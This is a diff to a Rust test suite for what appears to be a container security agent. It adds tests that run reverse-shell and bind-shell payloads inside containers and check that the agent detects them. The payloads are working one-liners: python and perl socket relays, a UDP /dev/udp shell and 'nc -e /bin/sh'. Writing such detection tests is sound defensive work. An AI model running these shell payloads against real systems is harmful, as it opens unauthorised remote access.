@@ -20,7 +20,9 @@ use std::process::{Command, Stdio};
 use std::sync::OnceLock;
 use std::time::{Duration, Instant};
 use ward_testkit::agent::{AgentOptions, WardAgent};
-use ward_testkit::{require_containers, Container, Images, Network, PodmanService, ShellListener};
+use ward_testkit::{
+    require_containers, Container, Images, Network, PodmanService, ShellListener, UdpShellListener,
+};
 
 const WAIT: Duration = Duration::from_secs(10);
 
@@ -451,6 +453,292 @@ fn mkfifo_cat_pipeline_reverse_shell() {
     });
     assert_container(&f, &c);
     assert_peer(&f, port);
+}
+
+/// A python interpreter relay: `setup` connects `s` to the listener and starts `/bin/sh` as
+/// `sh`, defining `put(data)` (to the shell) and `get()` (from it); a thread copies the socket
+/// into the shell, the main loop copies the shell's output back.
+fn python_relay(setup: &str) -> Vec<String> {
+    let code = format!(
+        "import socket,subprocess,threading\n{setup}\n\
+         def up():\n\
+         \x20while True:\n\
+         \x20\x20d=s.recv(1024)\n\
+         \x20\x20if not d: break\n\
+         \x20\x20put(d)\n\
+         threading.Thread(target=up,daemon=True).start()\n\
+         while True:\n\
+         \x20d=get()\n\
+         \x20if not d: break\n\
+         \x20s.sendall(d)\n\
+         s.close()\n"
+    );
+    vec!["python3".into(), "-c".into(), code]
+}
+
+/// The relay's shell: found by its stdin, written by the connected python process.
+fn assert_relayed_shell(agent: &Agent, c: &Container, port: u16, holder: &str) {
+    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f) == "/usr/bin/dash");
+    assert_eq!(args(&f), ["/bin/sh"]);
+    assert_eq!(
+        f["sourceProperties"]["Binding"],
+        "stdin pipe written by a process holding a remote connection"
+    );
+    assert_eq!(f["sourceProperties"]["Socket_Holder_Program"], holder);
+    assert_container(&f, c);
+    assert_peer(&f, port);
+}
+
+/// An interpreter relay: python connects, starts `/bin/sh` on pipes (`Popen(stdin=PIPE,
+/// stdout=PIPE)`) and copies bytes both ways with a thread. No socket is ever on the shell's
+/// fds 0-2: the evidence is the shell's stdin pipe, written by the connected python process.
+#[test]
+fn python_popen_pipe_relay_reverse_shell() {
+    let images = require_containers!();
+    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-pyrelay", |p| {
+        python_relay(&format!(
+            "s=socket.create_connection(('127.0.0.1',{p}))\n\
+             sh=subprocess.Popen(['/bin/sh'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)\n\
+             def put(d): sh.stdin.write(d);sh.stdin.flush()\n\
+             get=lambda: sh.stdout.read1(1024)"
+        ))
+    });
+    assert_relayed_shell(agent, &c, port, "python3");
+}
+
+/// node's `child_process.spawn` gives the shell one end of an AF_UNIX socketpair (libuv), not a
+/// pipe, and node payloads spawn the shell before they connect. node is not in the test image:
+/// python does the same, which is what the agent sees of a node relay.
+#[test]
+fn socketpair_relay_reverse_shell_like_node_spawn() {
+    let images = require_containers!();
+    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-sprelay", |p| {
+        python_relay(&format!(
+            "a,b=socket.socketpair()\n\
+             sh=subprocess.Popen(['/bin/sh'],stdin=b,stdout=b,stderr=b)\n\
+             b.close()\n\
+             s=socket.create_connection(('127.0.0.1',{p}))\n\
+             put=a.sendall\n\
+             get=lambda: a.recv(1024)"
+        ))
+    });
+    assert_relayed_shell(agent, &c, port, "python3");
+}
+
+/// The same relay in perl: IPC::Open2 starts the shell on pipes, a select() loop pumps.
+#[test]
+fn perl_open2_pipe_relay_reverse_shell() {
+    let images = require_containers!();
+    let (agent, c, port) = reverse_shell(&images, &images.debian, "rs-plrelay", |p| {
+        vec![
+            "perl".into(),
+            "-e".into(),
+            format!(
+                "use IO::Socket::INET;use IPC::Open2;use IO::Select;\
+                 my $s=IO::Socket::INET->new(PeerAddr=>'127.0.0.1:{p}') or die;\
+                 my $pid=open2(my $out,my $in,'/bin/sh');\
+                 my $sel=IO::Select->new($s,$out);my $buf;\
+                 LOOP: while(my @r=$sel->can_read){{for my $h(@r){{\
+                 my $n=sysread($h,$buf,4096);last LOOP unless $n;\
+                 if($h==$s){{syswrite($in,$buf)}}else{{syswrite($s,$buf)}}}}}}\
+                 close $s;"
+            ),
+        ]
+    });
+    assert_relayed_shell(agent, &c, port, "perl");
+}
+
+/// `sh -i >& /dev/udp/H/P 0>&1`: a connected UDP socket on the shell's stdin.
+#[test]
+fn udp_dev_udp_reverse_shell() {
+    let images = require_containers!();
+    let agent = shared_agent(&images);
+    let c = debian(&images, "rs-udp");
+    let pending = UdpShellListener::bind().unwrap().serve(
+        "id\nexit\n",
+        "uid=0(root)",
+        Duration::from_secs(8),
+    );
+    let port = pending.port();
+    c.exec_detached(&[
+        "bash",
+        "-c",
+        &format!("sh -i >& /dev/udp/127.0.0.1/{port} 0>&1"),
+    ])
+    .unwrap();
+    let out = session_output(pending);
+    assert!(
+        out.contains("uid=0(root)"),
+        "the UDP shell ran `id`: {out:?}"
+    );
+    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f) == "/usr/bin/dash");
+    assert_eq!(args(&f), ["sh", "-i"]);
+    assert_container(&f, &c);
+    let conn = &f["connections"][0];
+    assert_eq!(conn["protocol"], "UDP", "{f:#}");
+    assert_eq!(conn["destinationIp"], "127.0.0.1");
+    assert_eq!(conn["destinationPort"], port);
+}
+
+/// A bind shell: `nc -l -p P -e /bin/sh` in the container, the attacker connects in.
+#[test]
+fn netcat_bind_shell() {
+    let images = require_containers!();
+    let agent = shared_agent(&images);
+    let c = debian(&images, "rs-bind");
+    let port = std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    c.exec_detached(&[
+        "nc.traditional",
+        "-l",
+        "-s",
+        "127.0.0.1",
+        "-p",
+        &port.to_string(),
+        "-e",
+        "/bin/sh",
+    ])
+    .unwrap();
+    let deadline = Instant::now() + WAIT;
+    let mut stream = loop {
+        match std::net::TcpStream::connect(("127.0.0.1", port)) {
+            Ok(s) => break s,
+            Err(e) if Instant::now() < deadline => {
+                let _ = e;
+                std::thread::sleep(Duration::from_millis(50));
+            }
+            Err(e) => panic!("bind shell on 127.0.0.1:{port}: {e}"),
+        }
+    };
+    let local = stream.local_addr().unwrap().port();
+    stream.write_all(b"id\nexit\n").unwrap();
+    stream.set_read_timeout(Some(WAIT)).unwrap();
+    let mut out = String::new();
+    let _ = stream.read_to_string(&mut out);
+    assert!(
+        out.contains("uid=0(root)"),
+        "the bind shell ran `id`: {out:?}"
+    );
+    // The peer of the accepted socket is the attacker's end: our local port.
+    for cat in [REVSHELL, RCE] {
+        let f = agent.wait_for(c.id(), cat, |f| binary(f) == "/usr/bin/dash");
+        assert_container(&f, &c);
+        assert_peer(&f, local);
+    }
+}
+
+/// perl's `fdopen` form: STDIN/STDOUT re-opened on the socket (a dup onto fd 0), then
+/// `system` for each line the peer sends. perl execs a plain command itself (remote command
+/// execution) and runs one with shell syntax through `sh -c` (a shell reading the socket).
+#[test]
+fn perl_fdopen_reverse_shell() {
+    let images = require_containers!();
+    let agent = shared_agent(&images);
+    let c = debian(&images, "rs-plfd");
+    let pending = ShellListener::bind().unwrap().serve(
+        "id\necho $((6*7)) | cat\nkill $PPID\n",
+        Duration::from_secs(8),
+    );
+    let port = pending.port();
+    c.exec_detached(&[
+        "perl",
+        "-MIO",
+        "-e",
+        &format!(
+            "$c=new IO::Socket::INET(PeerAddr,'127.0.0.1:{port}');\
+             STDIN->fdopen($c,r);$~->fdopen($c,w);system $_ while <>;"
+        ),
+    ])
+    .unwrap();
+    let out = session_output(pending);
+    assert!(out.contains("uid=0(root)") && out.contains("42"), "{out:?}");
+    let f = agent.wait_for(c.id(), RCE, |f| binary(f) == "/usr/bin/id");
+    assert_eq!(f["sourceProperties"]["Socket_Holder_Program"], "perl");
+    assert_container(&f, &c);
+    assert_peer(&f, port);
+    let f = agent.wait_for(c.id(), REVSHELL, |f| binary(f) == "/usr/bin/dash");
+    assert_eq!(args(&f)[..2], ["sh", "-c"]);
+    assert_eq!(f["sourceProperties"]["Socket_Holder_Program"], "perl");
+    assert_peer(&f, port);
+}
+
+/// A tiny HTTP server on 127.0.0.1 answering `n` requests with `body`.
+fn http_server(n: usize, body: &'static str) -> (u16, std::thread::JoinHandle<()>) {
+    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    let h = std::thread::spawn(move || {
+        for _ in 0..n {
+            let (mut s, _) = l.accept().unwrap();
+            s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+            let mut req = Vec::new();
+            let mut b = [0u8; 1024];
+            while !req.windows(4).any(|w| w == b"\r\n\r\n") {
+                match s.read(&mut b) {
+                    Ok(0) | Err(_) => break,
+                    Ok(k) => req.extend_from_slice(&b[..k]),
+                }
+            }
+            let _ = write!(
+                s,
+                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
+                body.len()
+            );
+        }
+    });
+    (port, h)
+}
+
+/// Health checks and downloads over bash's `/dev/tcp` (images without curl): the builtin's
+/// redirection puts the socket on fd 1 for a moment, `cat` reads it into /dev/null or a file.
+/// Neither is a reverse shell nor remote command execution.
+#[test]
+fn benign_dev_tcp_health_check_and_download() {
+    let images = require_containers!();
+    let agent = shared_agent(&images);
+    let c = debian(&images, "benign-devtcp");
+    let (port, server) = http_server(3, "healthy-payload");
+    // The health check: cat is the last command (exec'd in place after its redirections).
+    c.exec_ok(&[
+        "bash",
+        "-c",
+        &format!(
+            "exec 3<>/dev/tcp/127.0.0.1/{port}; printf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 >/dev/null"
+        ),
+    ])
+    .unwrap();
+    // The download: echo and read builtins on the socket, cat forked into a file.
+    let out = c
+        .exec_ok(&[
+            "bash",
+            "-c",
+            &format!(
+                "exec 3<>/dev/tcp/127.0.0.1/{port}; echo -en 'GET /app.tar.gz HTTP/1.0\\r\\n\\r\\n' >&3; \
+                 read -r status <&3; cat <&3 > /tmp/download; echo \"$status\"; grep -c healthy-payload /tmp/download"
+            ),
+        ])
+        .unwrap();
+    assert!(
+        out.contains("HTTP/1.0 200 OK") && out.trim_end().ends_with('1'),
+        "{out:?}"
+    );
+    // The same download with sh -c around it (a Dockerfile RUN line / a HEALTHCHECK CMD).
+    c.exec_ok(&[
+        "sh",
+        "-c",
+        &format!(
+            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; printf \"GET / HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3' > /tmp/index"
+        ),
+    ])
+    .unwrap();
+    server.join().unwrap();
+    let others = after_sentinel(agent, &c);
+    assert!(
+        others.is_empty(),
+        "/dev/tcp transfers reported: {others:#?}"
+    );
 }
 
 /// `ward agent --serve`: the API inside the agent serves what the agent just found.
